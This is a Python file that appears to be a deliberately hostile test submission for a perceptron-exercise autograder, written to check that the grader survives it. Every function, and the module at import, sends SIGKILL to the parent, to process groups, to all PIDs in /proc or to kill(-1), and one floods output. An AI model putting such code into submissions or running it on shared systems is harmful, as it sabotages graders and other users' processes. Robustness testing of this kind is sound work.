"""Tries to stop the grader or the other students' workers: every function sends SIGKILL somewhere.

Graded in one run with an honest submission; that one must keep its full marks and the
run must end with exit status 0 (a student's failure is not the grader's).
"""
import os
import signal

# at load time, before any function is called
try:
    os.kill(os.getppid(), signal.SIGKILL)
except OSError:
    pass


def _everyone():
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != os.getpid():
            try:
                os.kill(int(pid), signal.SIGKILL)
            except OSError:
                pass


def perceptron_update(w, b, x, y, eta=1.0):
    os.kill(os.getppid(), signal.SIGKILL)
    _everyone()
    return w, b


def perceptron_train(X, y, eta=1.0, max_epochs=100):
    for pgid in (1, os.getpgid(os.getppid()) if os.getppid() else 1):
        try:
            os.killpg(pgid, signal.SIGKILL)
        except OSError:
            pass
    os.kill(-1, signal.SIGKILL)
    return None


def batch_perceptron_step(w, b, X, y, eta=1.0):
    os.killpg(os.getpgid(0), signal.SIGKILL)


def novikoff_bound(X, y, w, b):
    for _ in range(20):
        print("flood " * 10_000)
        os.write(1, b"x" * 1_000_000)
    os.kill(0, signal.SIGKILL)
